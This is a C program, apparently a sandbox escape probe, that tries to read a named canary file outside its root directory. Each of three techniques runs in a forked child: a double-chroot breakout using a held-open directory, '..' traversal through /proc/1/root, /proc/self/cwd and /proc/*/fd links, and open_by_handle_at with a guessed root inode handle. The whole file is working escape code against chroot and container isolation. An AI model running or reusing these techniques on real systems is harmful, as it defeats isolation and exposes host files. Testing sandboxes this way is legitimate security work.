/* Tries to leave a root directory for the file named by the first argument. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *canary;

static void look(const char *way, const char *path)
{
	char text[64] = "";
	int fd = open(path, O_RDONLY);
	if (fd >= 0 && read(fd, text, sizeof text - 1) > 0)
		printf("%s reached %s: %s\n", way, path, text);
	fflush(stdout);
}

/* The classic: a directory held open from before, then up as far as it goes. */
static void double_chroot(void)
{
	mkdir("/tmp/cell", 0755);
	int held = open("/", O_RDONLY | O_DIRECTORY);
	chroot("/tmp/cell");
	fchdir(held);
	for (int i = 0; i < 256; i++)
		chdir("..");
	chroot(".");
	look("chroot", canary);
	chdir("/proc/1/cwd");
	for (int i = 0; i < 256; i++)
		chdir("..");
	look("cwd", canary + 1);
}

static void through_proc(void)
{
	char path[4096];
	const char *doors[] = {"/proc/1/root", "/proc/1/cwd",  "/proc/self/root",
			       "/proc/self/cwd", "/proc/1/task/1/root", "/proc/thread-self/root"};
	for (size_t i = 0; i < sizeof doors / sizeof *doors; i++) {
		snprintf(path, sizeof path, "%s/../../../../../../../..%s", doors[i], canary);
		look("proc", path);
	}
	for (int pid = 0; pid < 3; pid++)
		for (int fd = 0; fd < 64; fd++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d/../../../../../../..%s",
				 pid ? pid : getpid(), fd, canary);
			look("fd", path);
		}
}

/* Files named by their inode instead of their path: 2 is the root of many file systems. */
static void by_handle(void)
{
	struct {
		struct file_handle head;
		unsigned int id[2];
	} handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .id = {2, 0}};
	const char *starts[] = {"/", "/etc", "/dev/shm", "/proc", "/sys", "/tmp"};
	for (size_t i = 0; i < sizeof starts / sizeof *starts; i++) {
		int start = open(starts[i], O_RDONLY);
		int fd = syscall(SYS_open_by_handle_at, start, &handle, O_RDONLY | O_DIRECTORY);
		if (fd < 0)
			continue;
		printf("handle opened below %s\n", starts[i]);
		fchdir(fd);
		look("handle", canary + 1);
	}
}

int main(int argc, char **argv)
{
	canary = argv[1];
	void (*ways[])(void) = {double_chroot, through_proc, by_handle};
	look("path", canary);
	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		if (fork() == 0) {
			ways[i]();
			_exit(0);
		}
		wait(NULL);
	}
	puts("tried");
}
